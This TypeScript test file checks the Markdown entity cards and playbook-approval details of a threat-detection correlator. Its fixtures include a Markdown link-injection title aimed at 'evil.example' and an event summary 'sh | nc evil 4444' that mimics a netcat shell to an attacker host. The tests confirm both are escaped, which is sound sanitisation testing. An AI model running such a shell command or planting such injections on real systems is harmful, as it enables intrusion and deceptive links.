/**
 * The Markdown the Temporal UI shows as a correlator's and a playbook run's current details, built from a real
 * EntityState as one workflow activation builds it (pure, no server; test/ui/console.test.ts reads it in a browser).
 */
import type { PlaybookStatus } from '../../src/contracts/playbook/messages';
import type { Detection } from '../../src/model/detection';
import { parseDuration } from '../../src/model/duration';
import { correlatorLink } from '../../src/contracts/correlator/ui-link';
import { correlatorWorkflowId } from '../../src/temporal/workflow-ids';
import { defaultCorrelatorSettings } from '../../workflows/correlator/correlator';
import { renderEntityCard, attackTags, MAX_ROWS } from '../../workflows/correlator/entity-card';
import { EntityState, emptyCarriedState } from '../../workflows/correlator/entity-state';
import { renderPlaybookDetails } from '../../workflows/playbook/playbook-details';
import { ruleRef } from './test-rules';

const host = { type: 'host' as const, id: 'web-01' };
const start = 1_790_000_000_000;
const linkTo = (id: string) => correlatorLink('http://ui:8233', 'default', id);

function newState(): EntityState {
  const s = defaultCorrelatorSettings;
  return new EntityState('acme', host, 'entity:acme:host:web-01', s, parseDuration(s.suppressFor), parseDuration(s.riskHalfLife), linkTo, emptyCarriedState(start));
}

function det(i: number, rule: 't_recon' | 't_exec', summary: string, user = 'mallory'): Detection {
  return {
    eventId: `ev-${i}`,
    tenant: 'acme',
    source: 'process',
    time: start + i * 1000,
    rules: [rule === 't_exec' ? { ...ruleRef(rule), title: 'Shell | spawned [click](http://evil.example)' } : ruleRef(rule)],
    entities: [host, { type: 'user', id: user }],
    fields: {},
    summary,
    rulesetVersion: 'v1',
  };
}

function card(state: EntityState, now: number): string {
  return renderEntityCard({
    asOf: now,
    view: state.view(now),
    started: state.startedPlaybooks(),
    related: state.relatedEntities(MAX_ROWS),
    linkTo,
    correlatorOf: (entity) => correlatorWorkflowId('acme', entity),
  });
}

test('the entity card shows risk, the open alert with level and ATT&CK tags, the newest timeline rows, playbooks and related entities', () => {
  const state = newState();
  const detections = Array.from({ length: 14 }, (_, i) => det(i, 't_recon', `recon ${i}`, i === 13 ? 'eve' : 'mallory'));
  detections.push(det(14, 't_exec', 'mallory ran sh | nc evil 4444'));
  const now = start + 20_000;
  const { alerts } = state.applyDetections(detections, now, 'high', new Set());
  expect(alerts).toHaveLength(1);
  state.recordStartedPlaybook({ workflowId: 'playbook:isolate-host:acme:host:web-01', playbook: 'isolate-host', alertId: alerts[0]!.id });
  const text = card(state, now);
  const lines = text.split('\n');

  expect(text).toContain(`**Risk ${state.riskScore(now)} of 100**`);
  // A hostile title is shown as text: its pipe and link syntax escaped, so it neither forges a link nor a table cell.
  const alertLine = lines.find((l) => l.includes(alerts[0]!.id))!;
  expect(alertLine.startsWith('- **high** Shell \\| spawned \\[click\\](http://evil.example) · ')).toBe(true);
  expect(alertLine).toContain('ATT&CK T1059, execution');
  expect(text).not.toMatch(/(?<!\\)\]\(http:\/\/evil/);
  // The last MAX_ROWS events, newest first, each a 4-cell row however many pipes its summary has.
  const rows = lines.filter((l) => l.startsWith('| 20'));
  expect(rows).toHaveLength(MAX_ROWS);
  expect(rows[0]).toContain('mallory ran sh \\| nc evil 4444');
  expect(rows[MAX_ROWS - 1]).toContain(`recon ${15 - MAX_ROWS}`);
  for (const row of rows) expect(row.split(/(?<!\\)\|/).length).toBe(6);
  expect(text).toContain(`- [isolate-host](${linkTo('playbook:isolate-host:acme:host:web-01')}) for \`${alerts[0]!.id}\` · started`);
  // Related entities, most recently seen first; the entity itself is not one.
  expect(lines).toContain(`**Related** [user mallory](${linkTo('entity:acme:user:mallory')}) · [user eve](${linkTo('entity:acme:user:eve')})`);
});

test('a card with nothing yet says so; ATT&CK tags keep techniques before tactics and drop groups and software', () => {
  const text = card(newState(), start);
  expect(text).toContain('**Risk 0 of 100**');
  expect(text).toContain('#### Open alerts\nNone.');
  expect(text).toContain('No events yet.');
  expect(text).not.toContain('#### Playbooks');
  expect(text).not.toContain('**Related**');
  expect(attackTags(['attack.privilege_escalation', 'attack.t1611', 'attack.g0007', 'attack.s0154', 'cve.2024'])).toBe('T1611, privilege escalation');
});

test("a playbook run's details say what it waits for, whom it asks and which alerts it covers", () => {
  const status: PlaybookStatus = {
    workflowId: 'playbook:quarantine-pod:acme:k8s.pod:shop/web',
    alertId: 'alrt-1',
    correlatorWorkflowId: 'entity:acme:pod:shop/web',
    playbook: 'quarantine-pod',
    state: 'awaiting_approval',
    alerts: [{ id: 'alrt-1', rule: { id: 'r', title: 'Exec into pod', level: 'high' }, entity: { type: 'pod', id: 'shop/web' }, correlatorWorkflowId: 'entity:acme:pod:shop/web', raisedAt: start, coveredAt: start }],
    askedGroups: ['secops-oncall'],
    approvalsNeeded: 1,
    decisions: [],
    refused: [],
    actions: ['webhook notice approval_request sent'],
    holds: [],
    waitUntil: start + 3_600_000,
  };
  const groups = [
    { name: 'secops-oncall', members: [{ name: 'alice', aliases: [] }, { name: 'bob', aliases: [] }] },
    { name: 'secops-leads', members: [{ name: 'carol', aliases: [] }] },
  ];
  const text = renderPlaybookDetails({ status, target: 'k8s.pod:shop/web', groups, linkTo });
  expect(text).toContain('### quarantine-pod on k8s.pod:shop/web');
  expect(text).toContain('**State awaiting approval** · waiting for approval for quarantine-pod on k8s.pod:shop/web from secops-oncall (1 needed) until 2026-09-21 15:13:20Z');
  expect(text).toContain('- secops-oncall (asked): alice, bob');
  expect(text).toContain('- secops-leads (on escalation): carol');
  expect(text).toContain(`\`alrt-1\` on [pod shop/web](${linkTo('entity:acme:pod:shop/web')})`);
  const decided = renderPlaybookDetails({ status: { ...status, state: 'containing', decisions: [{ decision: 'approve', by: 'alice', via: 'cli', at: start }] }, target: 'k8s.pod:shop/web', groups });
  expect(decided).toContain('**State containing**\n');
  expect(decided).toContain('- **approve** by alice via cli at 2026-09-21 14:13:20Z');
  expect(decided).toContain('`alrt-1` on pod shop/web');
});
